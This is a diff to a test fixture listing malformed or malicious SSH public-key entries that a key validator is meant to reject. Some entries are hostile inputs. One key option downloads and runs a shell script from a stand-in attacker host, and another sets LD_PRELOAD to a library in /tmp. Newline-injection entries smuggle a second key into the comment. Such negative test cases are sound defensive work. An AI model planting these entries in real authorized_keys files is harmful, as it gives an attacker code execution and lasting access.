@@ -40,7 +40,8 @@ export function invalidKeys(): ServedKey[] {
     { name: 'invalid-truncated-base64', key: `ssh-ed25519 ${valid.slice(0, 40)} invalid-truncated-base64` },
     // A genuine ed25519 blob under another type name: only decoding the blob catches it.
     { name: 'invalid-wrong-inner-type', key: `ssh-rsa ${valid} invalid-wrong-inner-type` },
-    { name: 'invalid-option-injection', key: `command="/bin/sh -c 'curl -s http://attacker.invalid | sh'",no-pty ssh-ed25519 ${ed25519Blob()} invalid-option-injection` },
+    // environment= (LD_PRELOAD into the session) widens what the key may do: refused while allow_options is off.
+    { name: 'invalid-option-injection', key: `environment="LD_PRELOAD=/tmp/evil.so",command="/bin/sh -c 'curl -s http://attacker.invalid | sh'",no-pty ssh-ed25519 ${ed25519Blob()} invalid-option-injection` },
     { name: 'invalid-crlf-injection', key: `ssh-ed25519 ${ed25519Blob()} first\r\nssh-ed25519 ${ed25519Blob()} invalid-crlf-injected` },
     { name: 'invalid-lf-injection', key: `ssh-ed25519 ${ed25519Blob()} first\nssh-ed25519 ${ed25519Blob()} invalid-lf-injected` },
     { name: 'invalid-control-chars', key: `ssh-ed25519 ${ed25519Blob()} invalid\x1b[2J\x00control-chars` },
